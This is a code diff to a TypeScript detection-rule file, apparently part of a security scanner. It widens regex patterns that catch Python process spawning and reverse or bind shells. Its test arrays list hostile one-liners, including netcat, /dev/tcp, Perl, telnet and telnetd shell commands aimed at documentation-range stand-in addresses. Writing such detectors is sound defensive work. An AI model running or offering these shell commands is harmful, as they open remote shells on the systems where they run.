@@ -9,7 +9,7 @@ import { WORD } from '../value/words.ts'
 export const languageProgramRules: readonly Rule[] = [
   pattern(
     'code/program-call',
-    /\bpty\.spawn\s{0,2}\(|\bimport\s{1,4}(?:[\w ,]{1,60},\s{0,2})?(?:subprocess|pty)(?:\s{0,2},[\w ,]{1,60})?\s{0,2};|\blookup\s{0,2}\(\s{0,2}['"]pipe['"]|\bjava\.type\s{0,2}\(\s{0,2}['"]java\.lang\.(?:runtime|processbuilder|system|thread|class)\b/,
+    /\bpty\.spawn\s{0,2}\(|\bimport\s{1,4}(?:[\w ,]{1,60},\s{0,2})?(?:subprocess|pty)(?:\s{0,2},[\w ,]{1,60})?\s{0,2};|\bimport\s{1,4}(?:os|subprocess|pty|commands)\s{1,4}as\s{1,4}\w{1,24}\s{0,4}[;\n]\s{0,4}\w{1,24}\.(?:system|popen|spawn|run|call|exec|check_output|getoutput)\w{0,4}\s{0,2}\(|\blookup\s{0,2}\(\s{0,2}['"]pipe['"]|\bjava\.type\s{0,2}\(\s{0,2}['"]java\.lang\.(?:runtime|processbuilder|system|thread|class)\b/,
     {
       score: 5,
       quotable: true,
@@ -17,6 +17,7 @@ export const languageProgramRules: readonly Rule[] = [
       attacks: [
         "import pty;pty.spawn('/bin/sh')",
         'import socket,subprocess,os;s=socket.socket()',
+        "import os as p;p.system('x')",
         "{{ lookup('pipe','id') }}",
         "Java.type('java.lang.Runtime')",
       ],
@@ -61,7 +62,7 @@ export const languageProgramRules: readonly Rule[] = [
   // A shell that answers to who opened it: no health check and no step of a pipeline has one.
   pattern(
     'rce/shell-back',
-    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|\|\s{0,2}telnet\s[^|;&\n]{1,80}\|\s{0,2}(?:while\b|(?:\/bin\/)?(?:ba|da|z|k)?sh\b)|\bperl\s{1,4}-mio\s{1,4}-e\b/,
+    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|\btelnetd\s{1,4}(?:-\w{1,2}\s{0,2}\d{0,5}\s{1,2}){0,4}-\w{0,2}l\s{0,2}\/(?:usr\/)?bin\/(?:ba|da|a)?sh\b|\|\s{0,2}telnet\s[^|;&\n]{1,80}\|\s{0,2}(?:while\b|(?:\/bin\/)?(?:ba|da|z|k)?sh\b)|\bperl\s{1,4}-mio\s{1,4}-e\b/,
     {
       score: 5,
       quotable: true,
@@ -70,6 +71,7 @@ export const languageProgramRules: readonly Rule[] = [
         'nc -e /bin/sh 198.51.100.7 4444',
         'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
         `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:443")'`,
+        'telnetd -l/bin/sh -p 9999',
         'sleep 9|telnet 198.51.100.7 4444|while : ; do sh && break; done',
       ],
       benign: ['exec 3<>/dev/tcp/localhost/9092', 'nc -z db 5432', 'bash -i'],
